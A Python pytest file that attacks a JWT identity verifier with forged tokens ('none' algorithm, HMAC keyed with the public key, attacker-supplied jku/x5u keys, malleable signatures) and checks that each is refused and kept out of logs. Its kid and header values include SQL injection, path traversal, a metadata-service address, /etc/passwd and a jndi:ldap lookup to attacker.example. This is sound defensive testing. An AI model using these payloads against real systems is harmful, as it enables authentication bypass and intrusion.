"""Tokens as attackers make them. Each is refused, soon, and leaves no trace of itself.

Those that nobody but an issuer could sign are signed here by the issuer's own key: what
refuses them is then what they are, and not that they are forged.
"""

from __future__ import annotations

import asyncio
import base64
import gc
import hashlib
import hmac
import json
import logging
import time
import traceback
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from hypothesis import given
from hypothesis import strategies as st
from joserfc import jwk

from pdp import base64url
from pdp.identity.key_source import FixedKeys
from pdp.identity.keys import parse_jwks
from pdp.identity.resolver import Credentials, IdentityError
from pdp.identity.tenancy import TenantRule
from pdp.identity.tokens import Issuer, TokenIdentity
from pdp.permit.signing import SigningKey

NOW = 1_800_000_000.0
ISSUER, OTHER = "https://id.example", "https://other.example"
MARK = "do-not-repeat-this"
"""Stands in every token: it may be in no message and no log."""
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493
LIMIT_SECONDS = 0.25

ED = ed25519.Ed25519PrivateKey.generate()
EC = ec.generate_private_key(ec.SECP256R1())
RSA = rsa.generate_private_key(65537, 2048)
STRANGER = ed25519.Ed25519PrivateKey.generate()
OF_OTHER = ed25519.Ed25519PrivateKey.generate()
PRIVATE: dict[str, Any] = {"ed": ED, "ec": EC, "rsa": RSA}
ALGORITHMS = {"ed": "EdDSA", "ec": "ES256", "rsa": "RS256"}
CLASSES: dict[str, Any] = {"ed": jwk.OKPKey, "ec": jwk.ECKey, "rsa": jwk.RSAKey}


def public_jwk(kind: str, private: Any, kid: str) -> dict[str, Any]:
    key = CLASSES[kind].import_key(private.public_key())
    return {**key.as_dict(private=False), "kid": kid}


PUBLIC = {kind: public_jwk(kind, private, kind) for kind, private in PRIVATE.items()}


def issuer(name: str, *keys: dict[str, Any]) -> Issuer:
    return Issuer(
        issuer=name,
        audiences=frozenset({"agent-service"}),
        types=frozenset({"jwt", "at+jwt"}),
        algorithms=frozenset({"EdDSA", "ES256", "RS256"}),
        keys=FixedKeys(parse_jwks(json.dumps({"keys": keys}).encode(), strict=True)),
        tenant=TenantRule(claim="tenant_id"),
    )


IDENTITY = TokenIdentity(
    [
        issuer(ISSUER, *PUBLIC.values()),
        # A key of its own under a name that the first one has too, and one under its own.
        issuer(OTHER, public_jwk("ed", OF_OTHER, "ed"), public_jwk("ed", OF_OTHER, "other")),
    ],
    clock=lambda: NOW,
)
CLAIMS: dict[str, Any] = {
    "iss": ISSUER,
    "aud": "agent-service",
    "sub": "user-7",
    "tenant_id": "tenant_acme",
    "iat": NOW,
    "exp": NOW + 600,
    "note": MARK,
}


def signature(kind: str, signed: bytes) -> bytes:
    private = PRIVATE[kind]
    if kind == "ed":
        return bytes(private.sign(signed))
    if kind == "rsa":
        return bytes(private.sign(signed, padding.PKCS1v15(), hashes.SHA256()))
    r, s = decode_dss_signature(private.sign(signed, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32) + s.to_bytes(32)


def token(
    header: dict[str, Any] | bytes | None = None,
    claims: dict[str, Any] | bytes | None = None,
    *,
    kind: str = "ed",
    sign: Callable[[bytes], bytes] | None = None,
) -> str:
    """Signed by the issuer's key of this kind, unless ``sign`` does it."""
    if not isinstance(header, bytes):
        usual = {"alg": ALGORITHMS[kind], "kid": kind, "typ": "JWT"}
        header = json.dumps({**usual, **(header or {})}).encode()
    if not isinstance(claims, bytes):
        claims = json.dumps({**CLAIMS, **(claims or {})}).encode()
    signed = f"{base64url.encode(header)}.{base64url.encode(claims)}"
    made = sign(signed.encode()) if sign else signature(kind, signed.encode())
    return f"{signed}.{base64url.encode(made)}"


def parts(text: str) -> list[str]:
    return text.split(".")


def resolve(text: str) -> str:
    return asyncio.run(IDENTITY.resolve(Credentials(bearer=text))).actor


@pytest.fixture
def refused(caplog: pytest.LogCaptureFixture) -> Iterator[Callable[..., None]]:
    caplog.set_level(logging.DEBUG)

    def check(text: str, reason_code: str = "token_invalid") -> None:
        # All of it is done on this thread. A look through the garbage of the whole test
        # process takes longer than the limit, and is not what a token costs.
        gc.disable()
        try:
            began = time.thread_time()
            with pytest.raises(IdentityError) as caught:
                resolve(text)
            spent = time.thread_time() - began
        finally:
            gc.enable()
        assert spent < LIMIT_SECONDS
        assert caught.value.reason_code == reason_code
        told = "".join(traceback.format_exception(caught.value)) + repr(caught.value) + caplog.text
        for part in (MARK, *(part for part in parts(text) if len(part) > 8)):
            assert part not in told

    yield check
    assert MARK not in caplog.text


@pytest.mark.parametrize("kind", PRIVATE)
def test_what_the_attacks_begin_with_is_a_good_token(kind: str) -> None:
    assert resolve(token(kind=kind)) == "user-7"


def secrets_of(kind: str) -> dict[str, bytes]:
    """What an attacker may think that a verifier has for a key."""
    public = PRIVATE[kind].public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    as_jwk = PUBLIC[kind]
    return {
        "pem": pem,
        "pem without its last line end": pem.rstrip(b"\n"),
        "pem with those of Windows": pem.replace(b"\n", b"\r\n"),
        "der": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "jwk": json.dumps(as_jwk).encode(),
        "compact jwk": json.dumps(as_jwk, separators=(",", ":"), sort_keys=True).encode(),
        "jwks": json.dumps({"keys": [as_jwk]}).encode(),
        "its number": base64url.decode(str(as_jwk.get("x", as_jwk.get("n")))),
        "its number in base64url": str(as_jwk.get("x", as_jwk.get("n"))).encode(),
        "nothing": b"",
        "its id": kind.encode(),
    }


@pytest.mark.parametrize("digest", ("sha256", "sha384", "sha512"))
@pytest.mark.parametrize("form", secrets_of("ed"))
@pytest.mark.parametrize("kind", PRIVATE)
def test_a_public_key_is_no_secret_for_hmac(
    kind: str, form: str, digest: str, refused: Callable[..., None]
) -> None:
    secret = secrets_of(kind)[form]

    def mac(signed: bytes) -> bytes:
        return hmac.digest(secret, signed, digest)

    refused(token({"alg": f"HS{digest[3:]}", "kid": kind}, sign=mac))
    # As if it were what the key is for.
    refused(token({"alg": ALGORITHMS[kind], "kid": kind}, sign=mac))


@pytest.mark.parametrize(
    "name",
    (
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        " none",
        "none\x00",
        "\uff4eone",
        "",
        "null",
        "HS256",
    ),
)
@pytest.mark.parametrize("made", (b"", b"\x00", b"x" * 64))
def test_what_nobody_has_signed_is_refused(
    name: str, made: bytes, refused: Callable[..., None]
) -> None:
    refused(token({"alg": name}, sign=lambda _: made))


@pytest.mark.parametrize(
    "algorithm",
    (
        None, True, 0, [], ["EdDSA"], {"EdDSA": 1}, "eddsa", "EDDSA", "EdDSA ", "Ed25519", "Ed448",
        "ES256", "ES256K", "ES384", "RS256", "RS512", "PS256", "RSA-OAEP", "dir", "A128KW",
    ),
)  # fmt: skip
def test_the_token_has_no_say_in_how_it_is_verified(
    algorithm: Any, refused: Callable[..., None]
) -> None:
    refused(token({"alg": algorithm}))


def test_a_key_verifies_only_its_own_algorithm(refused: Callable[..., None]) -> None:
    for kind in PRIVATE:
        for other in PRIVATE.keys() - {kind}:
            refused(token({"kid": other}, kind=kind))
            refused(token({"kid": other, "alg": ALGORITHMS[other]}, kind=kind))

    def with_sha512(signed: bytes) -> bytes:
        return RSA.sign(signed, padding.PKCS1v15(), hashes.SHA512())

    def with_pss(signed: bytes) -> bytes:
        return RSA.sign(signed, padding.PSS(padding.MGF1(hashes.SHA256()), 32), hashes.SHA256())

    for sign, name in ((with_sha512, "RS512"), (with_pss, "PS256")):
        refused(token(kind="rsa", sign=sign))
        refused(token({"alg": name}, kind="rsa", sign=sign))


CERTIFICATE = base64.b64encode(b"\x30\x82" + b"x" * 300).decode()


@pytest.mark.parametrize(
    "header",
    (
        {"jwk": public_jwk("ed", STRANGER, "ed")},
        {"jwk": {"kty": "oct", "k": "c2VjcmV0"}},
        {"jwk": None},
        {"jku": "https://attacker.example/jwks.json"},
        {"jku": f"{ISSUER}/jwks.json"},
        {"jku": "http://169.254.169.254/latest/meta-data/"},
        {"jku": "file:///etc/passwd"},
        {"x5u": "https://attacker.example/certificate.pem"},
        {"x5c": [CERTIFICATE]},
        {"x5c": []},
    ),
)
def test_a_token_brings_no_key_along(header: dict[str, Any], refused: Callable[..., None]) -> None:
    refused(token(header, sign=STRANGER.sign))
    refused(token({**header, "kid": "attacker"}, sign=STRANGER.sign))
    refused(token(header))


@pytest.mark.parametrize(
    "header",
    (
        {"crit": ["exp"]},
        {"crit": []},
        {"crit": ["b64"], "b64": False},
        {"crit": None},
        {"crit": "b64"},
        {"crit": ["http://example.invalid/unknown"], "http://example.invalid/unknown": True},
        {"b64": False},
        {"b64": True},
        {"zip": "DEF"},
        {"enc": "A128GCM"},
    ),
)
def test_an_extension_is_refused_even_when_the_issuer_has_signed_it(
    header: dict[str, Any], refused: Callable[..., None]
) -> None:
    refused(token(header))


def test_a_payload_that_is_not_encoded_is_not_read_as_if_it_were(
    refused: Callable[..., None],
) -> None:
    header = base64url.encode(b'{"alg":"EdDSA","kid":"ed","typ":"JWT","b64":false,"crit":["b64"]}')
    payload = json.dumps(CLAIMS)
    made = base64url.encode(ED.sign(f"{header}.{payload}".encode()))
    refused(f"{header}.{payload}.{made}")
    refused(f"{header}..{made}")


@pytest.mark.parametrize("name", ("iss", "aud", "sub", "tenant_id", "exp", "note"))
def test_a_claim_that_stands_twice_is_refused(name: str, refused: Callable[..., None]) -> None:
    text = json.dumps(CLAIMS)
    again = json.dumps(CLAIMS[name])
    refused(token(claims=f'{{"{name}": {again}, {text[1:]}'.encode()))
    refused(token(claims=f'{text[:-1]}, "{name}": {again}}}'.encode()))
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in name)
    refused(token(claims=f'{text[:-1]}, "{escaped}": {again}}}'.encode()))
    refused(token(claims=f'{text[:-1]}, "more": {{"a": 1, "a": 2}}}}'.encode()))


@pytest.mark.parametrize("name", ("alg", "kid", "typ"))
def test_a_header_that_stands_twice_is_refused(name: str, refused: Callable[..., None]) -> None:
    usual = {"alg": "EdDSA", "kid": "ed", "typ": "JWT"}
    text = json.dumps(usual)
    refused(token(f'{{"{name}": "none", {text[1:]}'.encode()))
    refused(token(f'{text[:-1]}, "{name}": "none"}}'.encode()))
    refused(token(f'{text[:-1]}, "{name}": "{usual[name]}"}}'.encode()))


@pytest.mark.parametrize("name", ("exp", "nbf", "iat"))
@pytest.mark.parametrize(
    "written",
    (
        '"1800000600"', '""', '"never"', "null", "true", "false", "[1800000600]", "{}", "NaN",
        "Infinity", "-Infinity", "1e400", "-1e400", "1e300", "1800000600000", "9007199254740993",
        "9" * 400, "-1", "-1800000600", "0x6B49D458", "01800000600", "1_800_000_600",
        "1800000600.", "+1800000600",
    ),
)  # fmt: skip
def test_a_time_is_a_number_of_seconds(
    name: str, written: str, refused: Callable[..., None]
) -> None:
    claims = {key: value for key, value in CLAIMS.items() if key != name}
    refused(token(claims=f'{json.dumps(claims)[:-1]}, "{name}": {written}}}'.encode()))


def test_a_token_without_an_end_is_refused(refused: Callable[..., None]) -> None:
    claims = {key: value for key, value in CLAIMS.items() if key != "exp"}
    refused(token(claims=json.dumps(claims).encode()))
    refused(token(claims={"exp": NOW - 31}), "token_expired")
    refused(token(claims={"exp": 0}), "token_expired")


@pytest.mark.parametrize(
    "typ",
    (
        "tool-permit+jwt", "tool-delegation+jwt", "dpop+jwt", "secevent+jwt", "logout+jwt",
        "kb+jwt", "oauth-authz-req+jwt", "JOSE", "JWE", "", " JWT", "JWT ", "at+jwt\x00",
        "at\u202e+jwt", "\u0430t+jwt", None, 7, True, ["JWT"], {"JWT": 1},
    ),
)  # fmt: skip
def test_a_token_for_something_else_is_refused(typ: Any, refused: Callable[..., None]) -> None:
    refused(token({"typ": typ}))


@pytest.mark.parametrize("kind", ("tool-permit+jwt", "tool-delegation+jwt"))
def test_what_a_sidecar_signs_is_no_users_token_even_where_its_keys_are_trusted(
    kind: str, refused: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As where an operator names the sidecar's own /.well-known/jwks.json as an issuer's."""
    key = SigningKey.generate()
    sidecar = replace(
        issuer(ISSUER), keys=FixedKeys(parse_jwks(key.public_set.to_jwks().encode(), strict=True))
    )
    identity = TokenIdentity([sidecar], clock=lambda: NOW)
    monkeypatch.setattr(f"{__name__}.IDENTITY", identity)
    signed = key.sign({**CLAIMS, "iat": int(NOW), "exp": int(NOW) + 600}, kind=kind)
    refused(signed)
    # Its key signs indeed what would be accepted.
    assert resolve(key.sign({**CLAIMS, "iat": int(NOW), "exp": int(NOW) + 600}, kind="JWT"))


def test_a_token_without_a_type_is_refused(refused: Callable[..., None]) -> None:
    refused(token(b'{"alg":"EdDSA","kid":"ed"}'))


@pytest.mark.parametrize(
    "claims",
    (
        {"aud": "client-of-the-web-app", "nonce": "n"},  # an id token: for the client
        {"aud": []},
        {"aud": ["agent-service-2", "AGENT-SERVICE", "agent-service/"]},
        {"aud": "agent-service "},
        {"aud": [["agent-service"]]},
        {"aud": {"agent-service": True}},
        {"aud": None},
        {"iss": f"{ISSUER}/"},
        {"iss": ISSUER.upper()},
        {"iss": f"{ISSUER}#"},
        {"iss": [ISSUER]},
        {"iss": {"url": ISSUER}},
        {"iss": None},
        {"iss": ""},
        {"iss": "https://id.example@attacker.example"},
        {"iss": "https://\u0456d.example"},
        {"sub": None},
        {"sub": ""},
        {"sub": ["user-7"]},
        {"sub": "user-7\x00admin"},
        {"sub": "user-7\n"},
        {"sub": "u" * 256},
    ),
)
def test_a_token_for_another_place_or_of_nobody_is_refused(
    claims: dict[str, Any], refused: Callable[..., None]
) -> None:
    refused(token(claims=claims))


@pytest.mark.parametrize(
    "kid",
    (
        "../../../../dev/null", "/etc/passwd", "..\\..\\key", "ed' OR '1'='1", 'ed"; DROP TABLE k',
        "ed\x00", "\x00", "ed\n", " ed", "ed ", "ED", "e%64", "", "other", "*", ".*", "__class__",
        "keys", "0", "http://attacker.example/key", "${jndi:ldap://attacker.example}", "{{7*7}}",
        "k" * 256, "k" * 4000, None, 0, True, ["ed"], {"ed": "ed"}, 1.5,
    ),
)  # fmt: skip
def test_a_key_id_is_only_ever_a_name(kid: Any, refused: Callable[..., None]) -> None:
    refused(token({"kid": kid}))
    refused(token({"kid": kid}, sign=STRANGER.sign))


def test_a_token_without_a_key_id_is_refused(refused: Callable[..., None]) -> None:
    refused(token(b'{"alg":"EdDSA","typ":"JWT"}'))


def test_a_key_of_one_issuer_signs_for_no_other(refused: Callable[..., None]) -> None:
    assert resolve(token({"kid": "other"}, {"iss": OTHER}, sign=OF_OTHER.sign)) == "user-7"
    for kid in ("ed", "other"):
        refused(token({"kid": kid}, sign=OF_OTHER.sign))
        refused(token({"kid": kid}, {"iss": OTHER}))
    refused(token({"kid": "rsa", "alg": "RS256"}, {"iss": OTHER}, kind="rsa"))


def in_64_bytes(r: int, s: int) -> bytes:
    return r.to_bytes(32) + s.to_bytes(32)


@pytest.mark.parametrize(
    "made",
    (
        in_64_bytes(0, 0), in_64_bytes(0, 1), in_64_bytes(1, 0), in_64_bytes(1, 1),
        in_64_bytes(P256_ORDER, P256_ORDER), in_64_bytes(P256_ORDER, 0),
        in_64_bytes(0, P256_ORDER), in_64_bytes(P256_ORDER - 1, P256_ORDER - 1),
        in_64_bytes(2**256 - 1, 2**256 - 1), b"", b"\x00" * 63, b"\x00" * 65, b"\x00" * 128,
        encode_dss_signature(0, 0), encode_dss_signature(1, 1),
    ),
)  # fmt: skip
def test_numbers_that_are_no_signature_are_none(made: bytes, refused: Callable[..., None]) -> None:
    refused(token(kind="ec", sign=lambda _: made))


def test_a_signature_has_one_form_and_one_length(refused: Callable[..., None]) -> None:
    good = token(kind="ec")
    made = base64url.decode(parts(good)[2])
    r, s = int.from_bytes(made[:32]), int.from_bytes(made[32:])
    others = (
        encode_dss_signature(r, s),
        in_64_bytes(s, r),
        r.to_bytes(33) + s.to_bytes(33),
        made + b"\x00",
        b"\x00" + made,
        made[:-1],
        made[:32],
        made * 2,
    )
    for other in others:
        refused(".".join([*parts(good)[:2], base64url.encode(other)]))


def test_the_second_form_that_ecdsa_allows_is_the_same_token() -> None:
    """Whoever has (r, s) has (r, n - s) too, and signers make either. So no token is known
    by its text: revocations name its id.
    """
    good = token(kind="ec")
    made = base64url.decode(parts(good)[2])
    s = P256_ORDER - int.from_bytes(made[32:])
    other = ".".join([*parts(good)[:2], base64url.encode(made[:32] + s.to_bytes(32))])
    subjects = [asyncio.run(IDENTITY.resolve(Credentials(bearer=one))) for one in (good, other)]
    assert subjects[0] == subjects[1]


def test_a_number_plus_the_order_of_the_group_is_no_other_signature(
    refused: Callable[..., None],
) -> None:
    good = token()
    made = base64url.decode(parts(good)[2])
    s = int.from_bytes(made[32:], "little") + ED25519_ORDER
    refused(".".join([*parts(good)[:2], base64url.encode(made[:32] + s.to_bytes(32, "little"))]))
    good = token(kind="rsa")
    made = base64url.decode(parts(good)[2])
    larger = int.from_bytes(made) + RSA.public_key().public_numbers().n
    for length in (256, 257):
        if larger < 256**length:
            refused(".".join([*parts(good)[:2], base64url.encode(larger.to_bytes(length))]))
    refused(".".join([*parts(good)[:2], base64url.encode(b"\x00" + made)]))


def other_last_letters(text: str) -> Iterator[str]:
    """Texts that lenient decoders take for the same bytes: only unused bits differ."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    unused = {0: 0, 2: 4, 3: 2}[len(text) % 4]
    value = alphabet.index(text[-1])
    for bits in range(1, 2**unused):
        yield text[:-1] + alphabet[value ^ bits]


@pytest.mark.parametrize("which", (0, 1, 2))
def test_one_token_has_one_text(which: int, refused: Callable[..., None]) -> None:
    # Claims whose length leaves bits over, as header and signature have them by themselves.
    for filling in ("", "x", "xx"):
        good = parts(token({"cty": "JWT" + filling}, {"note": MARK + filling}))
        segment = good[which]
        changed = [
            segment + "=", segment + "==", segment + "A", segment + " ", " " + segment,
            segment + "\n", segment[:4] + "\n" + segment[4:], segment[:4] + " " + segment[4:],
            segment[:4] + "=" + segment[4:], segment + "\x00", segment + "%3D", segment[:-1],
            segment[:4] + "!" + segment[4:], *other_last_letters(segment),
        ]  # fmt: skip
        for text in changed:
            refused(".".join([*good[:which], text, *good[which + 1 :]]))


def test_the_usual_alphabet_of_base64_is_another_one(refused: Callable[..., None]) -> None:
    for number in range(200):
        good = token(claims={"number": number})
        usual = good.replace("-", "+").replace("_", "/")
        if usual != good:
            refused(usual)
            return
    pytest.fail("no token held a letter that differs")


@pytest.mark.parametrize(
    "change",
    (
        lambda good: f" {good}",
        lambda good: f"{good} ",
        lambda good: f"{good}\n",
        lambda good: f"\ufeff{good}",
        lambda good: f"Bearer {good}",
        lambda good: f'"{good}"',
        lambda good: f"{good}.",
        lambda good: f".{good}",
        lambda good: f"{good}.{parts(good)[2]}",
        lambda good: good.replace(".", "\u3002"),
        lambda good: good.replace(".", "%2E"),
        lambda good: good.replace(".", ",", 1),
        lambda good: ".".join(parts(good)[:2]),
        lambda good: ".".join(parts(good)[:2]) + ".",
        lambda good: f"{parts(good)[0]}..{parts(good)[2]}",
        lambda good: "...." + good,
        lambda good: json.dumps(
            dict(zip(("protected", "payload", "signature"), parts(good), strict=True))
        ),
        lambda good: json.dumps(
            {
                "payload": parts(good)[1],
                "signatures": [{"protected": parts(good)[0], "signature": parts(good)[2]}],
            }
        ),
    ),
)
def test_a_token_stands_alone_and_in_one_form(
    change: Callable[[str], str], refused: Callable[..., None]
) -> None:
    refused(change(token()))


@pytest.mark.parametrize(
    "text",
    (
        "a" * 8193, "." * 8000, "a." * 4000, "e30." * 2000, "a" * 1_000_000, "." * 1_000_000,
        "=" * 8000, "\x00" * 100, "é.é.é", "\ud800.a.b", "a" * 2730 + "." + "a" * 2730 + "." + "a",
    ),
)  # fmt: skip
def test_a_long_token_costs_nothing(text: str, refused: Callable[..., None]) -> None:
    refused(text)


@pytest.mark.parametrize(("open_", "close"), (("[", "]"), ('{"a":', "}")))
@pytest.mark.parametrize("depth", (65, 900))
def test_a_deep_token_is_refused(
    open_: str, close: str, depth: int, refused: Callable[..., None]
) -> None:
    deep = open_ * depth + "1" + close * depth
    refused(token(claims=f'{json.dumps(CLAIMS)[:-1]}, "deep": {deep}}}'.encode()))
    refused(token(f'{{"alg":"EdDSA","kid":"ed","typ":"JWT","deep":{deep}}}'.encode()))
    refused(token(claims=deep.encode()))


@pytest.mark.parametrize("encoding", ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"))
def test_a_token_is_utf_8(encoding: str, refused: Callable[..., None]) -> None:
    refused(token(claims=json.dumps(CLAIMS).encode(encoding)))
    refused(token(json.dumps({"alg": "EdDSA", "kid": "ed", "typ": "JWT"}).encode(encoding)))


@pytest.mark.parametrize(
    "claims",
    (b"", b"null", b"[]", b'"text"', b"1", b"{", b"{}{}", b"{}\x00", b"\xff\xfe", b"{'iss': 1}",
     b'{"iss": "\xc0\xae"}', b'{"iss": "\\ud800"}', b"{/* */}", b'{"a":1,}'),
)  # fmt: skip
def test_claims_are_one_json_object(claims: bytes, refused: Callable[..., None]) -> None:
    refused(token(claims=claims))


def test_a_token_within_a_token_is_not_unpacked(refused: Callable[..., None]) -> None:
    refused(token({"cty": "JWT"}, token().encode()))
    # Five parts are an encrypted one (RFC 7516).
    refused(".".join([*parts(token()), "AAAA", "AAAA"]))


def test_a_digest_of_the_token_is_no_signature(refused: Callable[..., None]) -> None:
    for kind in PRIVATE:
        refused(token(kind=kind, sign=lambda signed: hashlib.sha256(signed).digest()))
        refused(token(kind=kind, sign=lambda signed: hashlib.sha512(signed).digest()))


GOOD = {kind: token(kind=kind) for kind in PRIVATE}


def accepted(text: str) -> bool:
    try:
        resolve(text)
    except IdentityError:
        return False
    return True


@pytest.mark.parametrize("kind", PRIVATE)
@given(data=st.data())
def test_no_other_letter_anywhere_is_accepted(kind: str, data: st.DataObject) -> None:
    good = GOOD[kind]
    place = data.draw(st.integers(0, len(good) - 1))
    letter = data.draw(st.characters(max_codepoint=0x17F).filter(lambda one: one != good[place]))
    assert not accepted(good[:place] + letter + good[place + 1 :])


@pytest.mark.parametrize("kind", PRIVATE)
@given(data=st.data())
def test_no_other_bit_anywhere_is_accepted(kind: str, data: st.DataObject) -> None:
    segments = [base64url.decode(part) for part in parts(GOOD[kind])]
    which = data.draw(st.integers(0, 2))
    bit = data.draw(st.integers(0, len(segments[which]) * 8 - 1))
    number = int.from_bytes(segments[which]) ^ (1 << bit)
    segments[which] = number.to_bytes(len(segments[which]))
    assert not accepted(".".join(map(base64url.encode, segments)))


@pytest.mark.parametrize("kind", PRIVATE)
@given(data=st.data())
def test_no_part_left_out_or_said_again_is_accepted(kind: str, data: st.DataObject) -> None:
    good = GOOD[kind]
    begin = data.draw(st.integers(0, len(good) - 1))
    end = data.draw(st.integers(begin + 1, len(good)))
    assert not accepted(good[:begin] + good[end:])
    assert not accepted(good[:end] + good[begin:end] + good[end:])
